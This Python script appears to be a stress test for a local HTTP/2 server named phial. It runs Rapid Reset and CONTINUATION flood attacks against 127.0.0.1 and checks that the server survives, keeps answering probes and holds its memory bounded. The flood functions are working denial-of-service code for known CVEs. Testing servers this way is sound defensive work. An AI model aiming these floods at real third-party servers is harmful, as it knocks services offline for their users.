#!/usr/bin/env python3
"""HTTP/2 floods against a running phial server (cleartext, prior knowledge).

    h2flood.py PORT PID [--streams 100000] [--connections 4] [--seconds 5]

1. Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM at once, for
   --streams streams over --connections connections (a connection the
   server closes is replaced).
2. CONTINUATION flood (CVE-2024-27316 and kin): HEADERS without
   END_HEADERS, then CONTINUATION frames that never end it, one connection
   after another for --seconds (5), first with 16 KiB frames, then 1-byte
   frames.

During each flood a probe thread asks for `/` over HTTP/1.1 every 100 ms;
another samples the server's RSS (/proc/PID/status) every 100 ms. The script
fails (exit 1) if the server dies, a probe fails or waits longer than
PROBE_LIMIT, the RSS grows by more than RSS_PEAK_LIMIT during a flood or
RSS_AFTER_LIMIT once it is over, or a CONTINUATION flood connection is not
closed by the server within CLOSE_LIMIT.

Needs the `h2` package (`python3 -m pip install h2`).
"""

import argparse
import http.client
import os
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

PROBE_LIMIT = 2.0  # seconds
RSS_PEAK_LIMIT = 50 * 1024  # KiB
RSS_AFTER_LIMIT = 16 * 1024  # KiB
CLOSE_LIMIT = 10.0  # seconds
HEADERS = [
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "flood"),
    (":path", "/"),
]

failures = []


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


class Watch:
    """Probes the server and samples its RSS in threads while a flood runs."""

    def __init__(self, port, pid, name):
        self.port, self.pid, self.name = port, pid, name
        self.stop = threading.Event()
        self.before = rss_kib(pid)
        self.peak = self.before
        self.probes, self.slowest, self.probe_errors = 0, 0.0, []
        self.threads = [
            threading.Thread(target=self.probe, daemon=True),
            threading.Thread(target=self.sample, daemon=True),
        ]

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def probe(self):
        while not self.stop.is_set():
            start = time.monotonic()
            try:
                conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
                conn.request("GET", "/")
                response = conn.getresponse()
                body = response.read()
                conn.close()
                if response.status != 200 or body != b"Hello, World!":
                    self.probe_errors.append(f"status {response.status}: {body[:80]!r}")
            except OSError as error:
                self.probe_errors.append(repr(error))
            self.slowest = max(self.slowest, time.monotonic() - start)
            self.probes += 1
            self.stop.wait(0.1)

    def sample(self):
        while not self.stop.is_set():
            try:
                self.peak = max(self.peak, rss_kib(self.pid))
            except OSError:
                return
            self.stop.wait(0.1)

    def __exit__(self, *exc):
        self.stop.set()
        for thread in self.threads:
            thread.join()
        if not os.path.exists(f"/proc/{self.pid}"):
            failures.append(f"{self.name}: the server died")
            return False
        time.sleep(2)  # let the server drop what the flood left
        after = rss_kib(self.pid)
        print(
            f"  RSS before {self.before} KiB, peak {self.peak} KiB (+{self.peak - self.before}), "
            f"2 s after {after} KiB (+{after - self.before})"
        )
        print(
            f"  probes: {self.probes} GET / over HTTP/1.1, {len(self.probe_errors)} failed, "
            f"slowest {self.slowest * 1000:.0f} ms"
        )
        if self.probes == 0:
            failures.append(f"{self.name}: no probe ran")
        if self.probe_errors:
            failures.append(f"{self.name}: probes failed: {self.probe_errors[:3]}")
        if self.slowest > PROBE_LIMIT:
            failures.append(f"{self.name}: a probe waited {self.slowest:.1f} s")
        if self.peak - self.before > RSS_PEAK_LIMIT:
            failures.append(f"{self.name}: RSS grew by {self.peak - self.before} KiB during the flood")
        if after - self.before > RSS_AFTER_LIMIT:
            failures.append(f"{self.name}: RSS {after - self.before} KiB above its start after the flood")
        return False


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, validate_inbound_headers=False)
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def drain(sock, conn, goaways):
    """Reads what the server sent; False once it closed the connection.
    Counts the GOAWAY error codes in `goaways`."""
    while True:
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return True
        except OSError:
            return False
        if not data:
            return False
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return False
        ended = [e for e in events if isinstance(e, h2.events.ConnectionTerminated)]
        for event in ended:
            name = getattr(event.error_code, "name", str(event.error_code))
            goaways[name] = goaways.get(name, 0) + 1
        if ended:
            return False
        pending = conn.data_to_send()
        if pending:
            try:
                sock.setblocking(True)
                sock.sendall(pending)
                sock.setblocking(False)
            except OSError:
                return False


def rapid_reset(port, streams, connections, batch=500):
    """HEADERS + RST_STREAM pairs, `batch` to a write, round-robin."""
    links = [connect(port) for _ in range(connections)]
    sent = replaced = 0
    goaways = {}
    started = time.monotonic()
    while sent < streams:
        for index, (sock, conn) in enumerate(links):
            alive = drain(sock, conn, goaways)
            if alive:
                try:
                    for _ in range(min(batch, streams - sent)):
                        stream_id = conn.get_next_available_stream_id()
                        conn.send_headers(stream_id, HEADERS, end_stream=True)
                        conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                        sent += 1
                    sock.setblocking(True)
                    sock.sendall(conn.data_to_send())
                    sock.setblocking(False)
                except (OSError, h2.exceptions.ProtocolError):
                    alive = False
            if not alive:
                sock.close()
                links[index] = connect(port)
                replaced += 1
            if sent >= streams:
                break
    elapsed = time.monotonic() - started
    for sock, _ in links:
        sock.close()
    print(
        f"  {sent} streams opened and reset in {elapsed:.1f} s over {connections} connections; "
        f"the server closed {replaced} connection(s), replaced (GOAWAY codes: {goaways or 'none'})"
    )


def frame(kind, flags, stream_id, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal_header(name, value):
    """A literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return (
        b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
    )


def continuation_flood(port, frame_size, deadline):
    """HEADERS without END_HEADERS, then CONTINUATION frames of
    `frame_size` bytes until the server closes the connection; returns the
    bytes sent and the seconds until the close, or None if still open at
    `deadline`."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.settimeout(CLOSE_LIMIT)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
    # A valid block start: :method GET, :scheme http, :path / (static table).
    sock.sendall(frame(0x1, 0, 1, b"\x82\x86\x84"))
    block = b"".join(
        literal_header(b"x-flood-%d" % i, b"a" * 200) for i in range(frame_size // 200 + 1)
    )
    started = time.monotonic()
    sent = 0
    offset = 0
    chunk = []
    while time.monotonic() < deadline:
        # Many frames to a write: the 1-byte frames are about the frame count.
        chunk.clear()
        for _ in range(max(1, 65536 // (frame_size + 9))):
            piece = block[offset : offset + frame_size]
            if len(piece) < frame_size:
                offset = 0
                piece = block[:frame_size]
            offset += frame_size
            chunk.append(frame(0x9, 0, 1, piece))
        data = b"".join(chunk)
        try:
            sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            break
        sent += len(data)
    else:
        sock.close()
        return None
    elapsed = time.monotonic() - started
    sock.close()
    return sent, elapsed


def continuation(port, frame_size, seconds):
    """One CONTINUATION flood connection after another for `seconds`."""
    results = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        result = continuation_flood(port, frame_size, time.monotonic() + CLOSE_LIMIT)
        if result is None:
            failures.append(
                f"CONTINUATION flood ({frame_size}-byte frames): the server kept the connection "
                f"open for {CLOSE_LIMIT} s"
            )
            return
        results.append(result)
    most = max(sent for sent, _ in results)
    slowest = max(elapsed for _, elapsed in results)
    print(
        f"  {len(results)} connections in {seconds} s, each closed by the server after at most "
        f"{most / 1024:.0f} KiB sent and {slowest * 1000:.0f} ms"
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument("--streams", type=int, default=100_000)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=int, default=5, help="of each CONTINUATION flood")
    args = parser.parse_args()

    print(f"== Rapid Reset: {args.streams} streams")
    with Watch(args.port, args.pid, "Rapid Reset"):
        rapid_reset(args.port, args.streams, args.connections)
    for frame_size in (16384, 1):
        print(f"== CONTINUATION flood: {frame_size}-byte frames")
        with Watch(args.port, args.pid, f"CONTINUATION flood ({frame_size}-byte frames)"):
            continuation(args.port, frame_size, args.seconds)

    if failures:
        print("FAIL:\n  " + "\n  ".join(failures), file=sys.stderr)
        sys.exit(1)
    print("== HTTP/2 floods survived: server alive, probes served, RSS bounded")


if __name__ == "__main__":
    main()
